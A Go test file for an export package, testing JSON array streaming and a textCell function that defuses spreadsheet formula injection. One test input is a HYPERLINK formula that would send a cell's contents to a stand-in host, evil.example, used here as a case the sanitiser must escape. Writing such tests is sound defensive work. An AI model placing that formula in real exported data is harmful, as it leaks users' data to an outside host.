package export

import (
	"bytes"
	"encoding/json"
	"slices"
	"sync"
	"testing"
)

type fileMap struct {
	mu    sync.Mutex
	files map[string][]byte
}

func (m *fileMap) WriteFile(name string, data []byte) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.files[name] = bytes.Clone(data)
	return nil
}

// writeJSONArray streams what json.MarshalIndent makes whole.
func TestWriteJSONArray(t *testing.T) {
	type item struct {
		Name  string            `json:"name"`
		List  []string          `json:"list"`
		Map   map[string]string `json:"map,omitempty"`
		Empty []int             `json:"empty"`
	}
	tests := [][]item{
		nil,
		{},
		{{Name: "Mosul"}},
		{{Name: "<script>&</script>", List: []string{"a", "b"}, Map: map[string]string{"ar": "الموصل", "en": "Mosul"}}, {Name: "\u2028", Empty: []int{}}},
	}
	for i, items := range tests {
		w := &fileMap{files: map[string][]byte{}}
		if err := writeJSONArray(w, "x.json", slices.Values(items)); err != nil {
			t.Fatal(err)
		}
		want, _ := json.MarshalIndent(items, "", "  ")
		if items == nil {
			want = []byte("[]") // the data files are never null
		}
		want = append(want, '\n')
		if got := w.files["x.json"]; !bytes.Equal(got, want) {
			t.Errorf("%d: got\n%s\nwant\n%s", i, got, want)
		}
	}
}

// textCell neutralises what a spreadsheet would run as a formula, at the
// start of a cell and after each semicolon, and leaves the rest alone.
func TestTextCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Mosul", "Mosul"},
		{"Mosul;Nineveh", "Mosul;Nineveh"},
		{`=HYPERLINK("https://evil.example/?"&A1,"x")`, `'=HYPERLINK("https://evil.example/?"&A1,"x")`},
		{"+1+1", "'+1+1"},
		{"-3.5", "'-3.5"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"Mosul;=1+1;@x;ok", "Mosul;'=1+1;'@x;ok"},
		{";=x", ";'=x"},
		{"a=b, c-d, e+f, x@y", "a=b, c-d, e+f, x@y"},
		{" =1", " =1"},
		{"'=1", "'=1"},
	}
	for _, tc := range tests {
		if got := textCell(tc.in); got != tc.want {
			t.Errorf("textCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
